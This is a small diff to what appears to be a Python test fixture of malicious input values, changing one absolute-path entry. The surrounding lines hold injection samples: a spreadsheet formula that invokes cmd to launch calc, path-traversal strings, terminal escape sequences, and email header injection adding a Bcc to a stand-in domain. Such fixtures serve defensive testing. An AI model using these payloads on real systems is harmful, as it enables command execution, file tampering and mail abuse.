@@ -50,7 +50,7 @@ VALUES: dict[str, str] = {
     "formula at": "@SUM(1,1)",
     "formula minus": "-2+3+cmd|' /C calc'!A0",
     "traversal": "../../../../../tmp/PWNED",
-    "absolute": "/nonexistent/PWNED",
+    "absolute": "/proc/nonexistent/PWNED",
     "backslashes": "..\\..\\PWNED\\\\n\\x1b[2J",
     "header": "x\nBcc: PWNED@evil.example\n\nbody",
     "header crlf": "x\r\nBcc: PWNED@evil.example\r\n\r\nbody",
